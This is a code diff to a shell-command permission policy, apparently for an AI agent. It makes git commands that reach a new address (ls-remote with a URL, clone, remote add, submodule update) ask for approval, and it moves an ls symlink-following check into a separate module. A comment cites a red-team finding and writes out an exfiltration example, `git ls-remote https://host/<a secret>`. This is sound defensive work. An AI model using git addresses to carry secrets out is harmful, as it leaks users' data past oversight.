@@ -12,6 +12,7 @@ import { tscPolicy } from './tsc-policy';
 import { npmPolicy, npxPolicy } from './npm-policy';
 import { kubectlPlugin } from './runner-specs';
 import { lookupTable } from '../../text/lookup-table';
+import { followsLinksWhileWalking } from './link-following';
 
 export interface ProgramPolicy {
   /** Words used to match allow and deny rules (git without its global options, for instance). */
@@ -108,6 +109,68 @@ const GIT_SUBCOMMANDS_DENIED: Record<string, string> = lookupTable<string>({
   'maintenance stop': 'removes scheduled jobs of the user',
 });
 
+/**
+ * Reaching another machine at an address the command gives (red team of stop 38, with git on the allow
+ * list): the address can carry data out (`git ls-remote https://host/<a secret>`, `git ls-remote host:x`
+ * through ssh). Fetching from the remotes the repository already names (`git fetch`, `git pull origin
+ * main`) stays as the rules say; what sets a new address (`remote add`, `set-url`, a submodule's URL)
+ * asks. `git push` and `send-pack` are refused by the deny rules (publish-policies.ts).
+ */
+const GIT_NETWORK_ALWAYS: Readonly<Record<string, true>> = lookupTable<true>({
+  clone: true,
+  'fetch-pack': true,
+  'http-fetch': true,
+  'http-push': true,
+  'request-pull': true,
+  svn: true,
+  p4: true,
+  'remote add': true,
+  'remote set-url': true,
+  'submodule add': true,
+  'submodule update': true,
+  'submodule sync': true,
+});
+/** Subcommands whose first operand is the repository to reach (a remote's name, or an address). */
+const GIT_REPOSITORY_FIRST = new Set(['fetch', 'pull', 'ls-remote']);
+/** Their options that take the next word as a value (that word is not the repository); lower case, as the words are compared. */
+const GIT_FETCH_VALUED = new Set([
+  '--depth',
+  '--deepen',
+  '--shallow-since',
+  '--shallow-exclude',
+  '-j',
+  '--jobs',
+  '--refmap',
+  '-o',
+  '--server-option',
+  '--negotiation-tip',
+  '--recurse-submodules-default',
+  '--filter',
+  '-s',
+  '--strategy',
+  '-x',
+  '--strategy-option',
+  '--sort',
+]);
+/** A repository written as an address rather than a remote's name: a URL, `host:path`, or a folder. */
+const ADDRESS = /[:/\\]|^[.~]/;
+
+/** The network subcommand a git command runs, when it reaches an address the command gives or sets. */
+function gitNetwork(sub: readonly string[]): string | undefined {
+  const two = `${sub[0]} ${sub[1]}`;
+  if (GIT_NETWORK_ALWAYS[two]) return two;
+  if (sub[0] && GIT_NETWORK_ALWAYS[sub[0]]) return sub[0];
+  if (sub[0] === 'archive' && sub.slice(1).some((w) => w.length >= 5 && '--remote'.startsWith(w.split('=')[0]!))) return 'archive --remote';
+  if (!GIT_REPOSITORY_FIRST.has(sub[0] ?? '')) return undefined;
+  for (let i = 1; i < sub.length; i++) {
+    const w = sub[i]!;
+    if (w === '--') return ADDRESS.test(sub[i + 1] ?? '') ? sub[0] : undefined;
+    if (!w.startsWith('-')) return ADDRESS.test(w) ? sub[0] : undefined;
+    if (GIT_FETCH_VALUED.has(w)) i++;
+  }
+  return undefined;
+}
+
 const GIT_CONFIG_READS = new Set(['--get', '--get-all', '--get-regexp', '--get-urlmatch', '--get-color', '--get-colorbool', '--list', '-l']);
 const GIT_CONFIG_FLAGS = new Set(['--global', '--system', '--local', '--worktree', '--show-origin', '--show-scope', '--null', '-z', '--name-only']);
 const GIT_CONFIG_TYPES = new Set(['--bool', '--int', '--bool-or-int', '--path', '--expiry-date', '--includes', '--no-includes']);
@@ -143,14 +206,14 @@ export function programPolicy(program: string, args: readonly ShellWord[], roots
   }
   if (name === 'npx') return npxPolicy(args);
   if (name === 'tsc') return tscPolicy(args);
-  if (name === 'ls') return lsPolicy(args);
   const subscript = subscriptRefusal(program, args) ?? standInRefusal(program, args);
   if (subscript) return { words: [{ value: program }, ...args], refusal: { verdict: 'deny', reason: subscript } };
   const code = inlineCode(name, program, args) ?? programFromInput(name, program, args) ?? toolCode(program, args) ?? capabilityRefusal(program, args);
   if (code) return { words: [{ value: program }, ...args], refusal: { verdict: 'deny', reason: code } };
   // kubectl WORD runs a plugin from PATH; an archive tool may write or read names this check never sees.
   const asks = name === 'kubectl' ? kubectlPlugin(args) : unseenNames(program, args);
-  const config = name === 'cargo' ? cargoConfig(args) : asks ? { verdict: 'ask' as const, reason: asks } : undefined;
+  const walks = asks ?? followsLinksWhileWalking(name, args);
+  const config = name === 'cargo' ? cargoConfig(args) : walks ? { verdict: 'ask' as const, reason: walks } : undefined;
   return { words: [{ value: program }, ...args], ...(config ? { refusal: config } : {}), ...scriptFiles(name, program, args) };
 }
 
@@ -284,6 +347,13 @@ function gitPolicy(args: readonly ShellWord[]): ProgramPolicy {
       };
   }
   // Checked last, so that a deny rule on the real command (git -C src push) still refuses it.
+  const network = gitNetwork(sub);
+  if (network)
+    return {
+      words,
+      chdir,
+      refusal: { verdict: 'ask', reason: `git ${network} reaches another machine at an address the command gives or sets, which can carry data out` },
+    };
   if (movesTo !== undefined)
     return {
       words,
@@ -291,15 +361,4 @@ function gitPolicy(args: readonly ShellWord[]): ProgramPolicy {
       refusal: { verdict: 'ask', reason: `git -C ${movesTo.slice(0, 60)} runs in another folder, where the names after it may lead elsewhere` },
     };
   return { words, chdir };
-}
-
-/** ls -R with -L lists the folders symbolic links lead to, outside the workspace too. */
-function lsPolicy(args: readonly ShellWord[]): ProgramPolicy {
-  const words = [{ value: 'ls' }, ...args];
-  const options = args.filter((a) => a.value.startsWith('-') && a.value !== '-').map((a) => a.value);
-  const has = (letter: string, long: string) =>
-    options.some((o) => (o.startsWith('--') ? long.startsWith(o.split('=')[0]!) && o.length > 3 : o.includes(letter)));
-  if (has('R', '--recursive') && has('L', '--dereference'))
-    return { words, refusal: { verdict: 'ask', reason: 'ls -R with -L follows symbolic links into folders outside the workspace' } };
-  return { words };
 }
